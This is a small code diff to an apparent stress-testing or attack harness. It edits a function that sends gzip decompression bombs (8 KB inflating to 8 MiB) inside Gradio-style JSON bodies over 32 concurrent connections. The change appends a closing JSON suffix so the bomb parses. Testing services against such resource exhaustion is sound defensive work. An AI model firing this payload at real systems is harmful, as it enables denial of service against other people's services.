@@ -51,7 +51,7 @@ def _attack(name: str, run: Callable[[Target], Outcome], fact: str, **more: Any)
 def _bombs(path: str, target: Target) -> Outcome:
     """8 KB that become 8 MiB, on 32 connections."""
     outcome = Outcome()
-    body = bodies.bomb(8 * bodies.MIB - 4_096, b'{"fn_index":0,"session_hash":"attack","data":["')
+    body = bodies.bomb(8 * bodies.MIB - 4_096, b'{"fn_index":0,"session_hash":"attack","data":["', b'"]}')
     headers = {"content-encoding": "gzip", "content-type": "application/json"}
     job = partial(post, target, path, body, headers, 30.0)
     for_a_while(target.seconds(20), 32, lambda _: [job()], outcome)
